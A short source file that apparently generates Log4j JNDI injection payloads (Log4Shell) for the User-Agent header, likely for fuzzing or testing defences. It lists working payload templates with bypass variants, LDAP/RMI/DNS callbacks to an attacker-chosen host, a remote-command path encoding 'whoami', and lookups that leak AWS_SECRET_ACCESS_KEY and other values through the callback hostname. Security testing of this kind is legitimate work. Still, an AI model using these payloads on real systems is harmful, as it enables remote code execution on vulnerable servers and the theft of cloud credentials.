// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
import { templateGenerator } from '../template-generator.js';

/** Log4j: a name looked up wherever it was logged. */
export const jndiLookup = templateGenerator({
  name: 'jndi-lookup',
  engines: ['log4j'],
  location: 'user_agent',
  rules: {
    start: [
      '{before}${l}jndi:{scheme}://{host}/{path}{r}{after}',
      '${l}jndi:{scheme}:{host}/{path}{r}',
      '${l}jndi:{scheme}://{host}/{leak}{r}',
      '${l}jndi:{scheme}://{leak}.{host}/{path}{r}',
      '${l}jndi:{scheme}://127.0.0.1#{host}/{path}{r}',
      '${l}jndi:{scheme}://user@{host}:{port}/{path}{r}',
      '${l}JNDI:{scheme}://{host}/{path}{r}',
      '${l}jndi:{scheme}:/{host}/{path}{r}',
    ],
    scheme: ['ldap', 'ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'corba', 'nds', 'http', 'nis', 'LDAP'],
    path: ['a', 'Exploit', '{letters}', 'Basic/Command/Base64/d2hvYW1p', 'TomcatBypass/{letters}', 'o=reference', ''],
    leak: [
      '${l}env:AWS_SECRET_ACCESS_KEY{r}',
      '${l}sys:java.version{r}',
      '${l}hostName{r}',
      '${l}env:USER{r}',
      '${l}java:os{r}',
      '${l}ctx:loginId{r}',
    ],
    port: ['389', '1389', '1099'],
  },
});
